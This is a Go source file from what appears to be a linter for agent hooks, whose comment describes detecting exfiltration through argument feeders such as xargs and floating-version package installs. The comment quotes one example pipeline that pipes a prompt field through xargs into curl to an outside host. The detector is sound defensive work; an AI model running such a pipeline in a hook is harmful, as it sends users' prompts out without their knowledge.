package detect

// exfil27: what a hook's command feeds another command through an
// argument feeder (docs/dev/exfil27-misses.md, class K3), and a hook that
// installs and runs a package whose version floats (K2).
//
// A feeder (xargs, GNU parallel: shell-argument-feeder,
// rules/agent-exfil27.rules) reads its standard input and runs the
// command written after its options with what it read as arguments: in
// place of a replacement string (-I{}) or after the last operand. The
// flow read the feeder as a filter, so "jq -r .prompt | xargs -I{} curl
// 'https://host/?q={}'" sent nothing: the command it runs is now read
// with the standard input as the value of a variable of the flow's own
// (feedVar) written where the items go.

import (
	"github.com/mcp-lint/mcp-lint/detect/internal/reading"
)

var ()

func init() {
	reading.HookFlowKinds[reading.FloatingKind] = true
	reading.HookShellKinds[reading.FloatingKind] = true
}

var ()
